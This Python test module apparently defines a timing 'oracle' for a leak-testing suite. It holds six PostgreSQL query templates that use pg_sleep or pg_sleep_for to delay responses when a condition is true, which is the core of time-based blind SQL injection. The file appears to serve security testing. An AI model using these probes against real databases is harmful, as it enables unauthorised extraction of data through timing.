"""pg_sleep where the condition holds."""

from __future__ import annotations

from tests.leaks.attacker.conditions import SPLITS
from tests.leaks.attacker.oracles.where import OF
from tests.leaks.attacker.phrasing import Oracle, by_row

_NAP = "0.04"

ORACLE = Oracle(
    "sleep",
    "pg_sleep",
    (
        *by_row(
            ("CASE", f"SELECT CASE WHEN <cond> THEN pg_sleep({_NAP}) END {OF}"),
            ("argument", f"SELECT pg_sleep(CASE WHEN <cond> THEN {_NAP} ELSE 0 END) {OF}"),
            ("WHERE", f"SELECT pg_sleep({_NAP}) {OF} AND <cond>"),
            ("AND", f"SELECT 1 {OF} AND <cond> AND pg_sleep({_NAP} + c.id * 0) IS NOT NULL"),
            ("FROM", f"SELECT 1 FROM customers c, LATERAL pg_sleep(CASE WHEN <cond> THEN {_NAP} ELSE 0 END) WHERE c.id = <row>"),
            ("pg_sleep_for", f"SELECT pg_sleep_for(CASE WHEN <cond> THEN interval '40 ms' ELSE interval '0' END) {OF}"),
            conditions=(SPLITS["range"], SPLITS["regex"]),
            is_timed=True,
        ),
    ),
)  # fmt: skip
